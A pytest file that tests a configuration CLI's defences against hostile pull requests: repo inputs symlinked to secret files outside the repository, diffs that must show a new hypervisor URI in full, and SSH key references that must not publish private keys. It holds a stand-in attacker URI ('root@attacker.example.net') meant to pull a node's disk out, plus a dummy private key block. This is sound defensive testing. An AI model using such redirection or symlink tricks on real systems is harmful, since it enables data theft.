"""Review 14 (hostile pull requests), the references a pull request controls: env.yaml and
blueprint.yaml may not be symlinks leading out of the repo (B8), and `gen diff` shows every
changed input field whole, so a new hypervisor's URI is never cut off (B3).

Everything runs the real CLI in a subprocess on a scratch copy of the repo (no mocks)."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from clirun import gen, helper_on_debian

SECRET_YAML = ("apiVersion: gen/v1\nkind: Environment\nblueprint: openshift-upi\n"
               "metadata: {name: TOPSECRET-abc123}\nusers: [admin]\n")


def _outside_file(tmp_path_factory: pytest.TempPathFactory, kind: str) -> Path:
    secret = tmp_path_factory.mktemp("outside") / "kubeconfig"
    secret.write_text(SECRET_YAML.replace("Environment", kind))
    secret.chmod(0o600)
    return secret


@pytest.mark.parametrize("inner", ["environments/lab/env.yaml",
                                   "blueprints/openshift-upi/blueprint.yaml"])
def test_input_yaml_symlinked_outside_the_repo_is_refused_unread(
        repo: Path, tmp_path_factory: pytest.TempPathFactory, inner: str) -> None:
    kind = "Environment" if inner.endswith("env.yaml") else "Blueprint"
    target = repo / inner
    target.unlink()
    target.symlink_to(_outside_file(tmp_path_factory, kind))
    for verb in ("validate", "render"):
        result = gen(verb, "env/lab", cwd=repo)
        assert result.code == 1, result
        assert "TOPSECRET" not in result.err + result.out and "users" not in result.err
        lines = result.err.strip().splitlines()
        assert len(lines) == 1 and f"{inner}: leads outside the repository through a symlink" \
            in lines[0], result.err
    assert not (repo / "out").exists()


def test_input_yaml_symlinked_inside_the_repo_still_reads(repo: Path) -> None:
    """A link that stays in the repo (a shared env.yaml) is not a leak: it keeps working."""
    env = repo / "environments/lab/env.yaml"
    (repo / "common").mkdir()
    env.rename(repo / "common/lab.yaml")
    env.symlink_to(Path("../../common/lab.yaml"))
    result = gen("validate", "env/lab", cwd=repo)
    assert result.code == 0, result.err


def test_diff_refuses_a_symlinked_env_yaml_leading_outside(
        repo: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    _commit(repo, "base")
    env = repo / "environments/lab/env.yaml"
    env.unlink()
    env.symlink_to(_outside_file(tmp_path_factory, "Environment"))
    result = gen("diff", "env/lab", "--base", "HEAD", "--format", "json", cwd=repo)
    assert result.code == 1, result
    assert "TOPSECRET" not in result.err + result.out
    assert "leads outside the repository through a symlink" in result.err


HV2_URI = "qemu+ssh://root@attacker.example.net/system?sshauth=privkey"
LONG_PATH = "/var/lib/libvirt/" + "/".join(["images"] * 20)


def test_diff_shows_a_new_hypervisors_uri_whole_in_every_format(
        repo: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    """B3: a new hypervisor is listed leaf by leaf and no value is cut, so the host that
    converge will ssh to (and push a node's disk to) is in front of the reviewer."""
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    _commit(repo, "base")
    env_file = repo / "environments/lab/env.yaml"
    text = env_file.read_text()
    worker = "  - {name: worker1, role: worker, hypervisor: hv1,"
    assert text.count("hypervisors:\n") == 1 and text.count(worker) == 1
    env_file.write_text(text.replace("hypervisors:\n", (
        "hypervisors:\n  - {name: hv2, domainType: kvm, bridge: br0, pool: {name: default, "
        f"path: {LONG_PATH}}}, uri: '{HV2_URI}'}}\n")).replace(
        worker, worker.replace("hv1", "hv2")))
    run_env = {**os.environ, "GEN_STORE": str(tmp_path_factory.mktemp("store"))}
    outputs = {}
    for form in ("text", "markdown", "json"):
        result = gen("diff", "env/lab", "--base", "HEAD", "--no-color", "--format", form,
                     cwd=repo, env=run_env)
        assert result.code == 0, result.err
        outputs[form] = result.out
    uri_row = f"+ environments/lab/env.yaml: hypervisors[hv2].uri: {HV2_URI}"
    path_row = f"+ environments/lab/env.yaml: hypervisors[hv2].pool.path: {LONG_PATH}"
    for form in ("text", "markdown"):
        lines = outputs[form].splitlines()
        assert any(line.strip() == uri_row for line in lines), outputs[form]
        assert any(line.strip() == path_row for line in lines), outputs[form]
    fields = json.loads(outputs["json"])["fields"]
    assert {"op": "+", "subject": "environments/lab/env.yaml: hypervisors[hv2].uri",
            "detail": HV2_URI} in fields, fields
    assert {"op": "+", "subject": "environments/lab/env.yaml: hypervisors[hv2].pool.path",
            "detail": LONG_PATH} in fields, fields


def _commit(repo: Path, message: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.net",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.net"}
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True, env=env)
    subprocess.run(["git", "commit", "-qm", message], cwd=repo, check=True, env=env)


# --- B5: an SSH key reference cannot publish a private key ---------------------------------

PRIVATE_KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n"
               "-----END OPENSSH PRIVATE KEY-----\n")


@pytest.mark.parametrize("content, published", [
    (PRIVATE_KEY, False),
    ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIT lab@test\n", True),
])
def test_ssh_key_reference_publishes_only_a_public_key(repo: Path, tmp_path: Path,
                                                       content: str, published: bool) -> None:
    """A pull request points sshAuthorizedKeys at a private key: converge refuses to fill it
    into the Ignition the helper serves over HTTP, names the reference, never the value."""
    (tmp_path / ".config/gen/secrets").mkdir(parents=True)
    (tmp_path / ".config/gen/secrets/key").write_text(content)
    key = "key"
    helper_on_debian(repo)  # the checkers run on this machine, at Debian's paths
    env_file = repo / "environments/lab/env.yaml"
    env_file.write_text(env_file.read_text().replace("{file: id_rsa.pub}",
                                                     f"{{file: {key}}}"))
    root = tmp_path / "root"
    result = gen("converge", "env/lab", "--auto-approve", "--provider", "files",
                 "--files-target", f"helper={root}", "--state-dir", str(tmp_path / "state"),
                 cwd=repo, env={**os.environ, "HOME": str(tmp_path)})
    served = b"".join(p.read_bytes() for p in root.rglob("*.ign"))
    assert b"PRIVATE KEY" not in served and "PRIVATE KEY" not in result.out + result.err
    if published:
        assert result.code == 0, result.err
        assert b"lab@test" in served
    else:
        assert result.code == 1, result.out + result.err
        assert result.err.strip().splitlines()[-1] == (
            f"secret 'sshAuthorizedKeys[0]' (file {key}) is not one OpenSSH public key line, so "
            "it is not published (point sshAuthorizedKeys at a public key such as "
            "id_ed25519.pub in the secrets directory)")
